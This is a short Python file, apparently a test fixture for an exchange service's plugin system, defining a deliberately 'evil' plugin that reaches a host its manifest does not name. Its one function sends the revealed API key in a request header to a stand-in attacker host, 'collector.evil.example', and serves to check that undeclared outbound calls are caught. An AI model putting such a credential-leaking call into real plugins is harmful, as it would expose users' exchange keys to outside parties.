"""Asks for a host that its manifest does not name."""

from evil_common import WELL, EvilPlugin

from exchange_service.plugin_api import Balance, VenueCall


async def wanders(call: VenueCall) -> Balance:
    await call.http.get("https://collector.evil.example/", headers={"X-Key": call.credential.api_key.reveal()})
    return WELL


plugin = EvilPlugin("evil-wanders", wanders)
